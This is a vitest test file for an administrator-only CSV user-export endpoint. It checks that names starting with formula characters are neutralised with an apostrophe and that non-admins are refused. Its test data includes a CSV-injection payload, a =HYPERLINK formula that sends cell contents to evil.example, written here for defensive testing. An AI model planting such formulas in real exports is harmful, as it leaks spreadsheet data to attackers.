/**
 * GET /api/users/export.csv (administrators) through the one CSV writer, against people and
 * organisations named as spreadsheet formulas (OWASP "CSV Injection": a cell starting with =,
 * +, -, @, a tab or a carriage return is prefixed with ' and stays text).
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import Papa from "papaparse";
import { startTestApp, type TestApp } from "../support/test-app";
import { ApiClient } from "../support/http-client";
import { makeUser, TEST_PASSWORD } from "../support/factories";

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Profile")', "+1 Person", "-2 Person", "@SUM(A1:A9)", "\tTabbed Person", "\rReturned Person"];
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestApp;
let admin: ApiClient;

beforeAll(async () => {
  t = await startTestApp();
  const a = await makeUser(t.ds, { roles: ["admin", "manager"], name: "Ada Admin", email: "ada.admin@kestrelbay.example" });
  for (const [i, name] of HOSTILE.entries()) await makeUser(t.ds, { name, email: `hostile${i}@tidewater.example`, organisation: "=1+1 Metals", active: i !== 2 });
  admin = new ApiClient(t.url);
  await admin.login(a.email, TEST_PASSWORD);
});
afterAll(async () => {
  await t.close();
});

describe("GET /api/users/export.csv", () => {
  it("starts no cell with a formula character and keeps every hostile name as text", async () => {
    const r = await admin.get("/api/users/export.csv");
    expect(r.status).toBe(200);
    expect(r.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(r.headers.get("content-disposition")).toMatch(/attachment; filename="people-2026-12-02\.csv"/);
    const parsed = Papa.parse<Record<string, string>>(r.text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(["name", "email", "roles", "department", "research_group", "organisation", "may_sign_in", "created_at"]);
    for (const row of parsed.data) for (const [column, cell] of Object.entries(row)) expect(cell, `${column} = ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
    for (const [i, name] of HOSTILE.entries()) {
      const row = parsed.data.find((x) => x.email === `hostile${i}@tidewater.example`);
      expect(row).toMatchObject({ name: `'${name}`, roles: "member", organisation: "'=1+1 Metals", may_sign_in: i === 2 ? "no" : "yes" });
    }
    expect(parsed.data.find((x) => x.email === "ada.admin@kestrelbay.example")).toMatchObject({ name: "Ada Admin", roles: "admin; manager", organisation: "" });
  });

  it("is for administrators only", async () => {
    const m = await makeUser(t.ds, { roles: ["manager", "member"] });
    const c = new ApiClient(t.url);
    await c.login(m.email, TEST_PASSWORD);
    expect((await c.get("/api/users/export.csv")).status).toBe(403);
    expect((await new ApiClient(t.url).get("/api/users/export.csv")).status).toBe(401);
  });
});
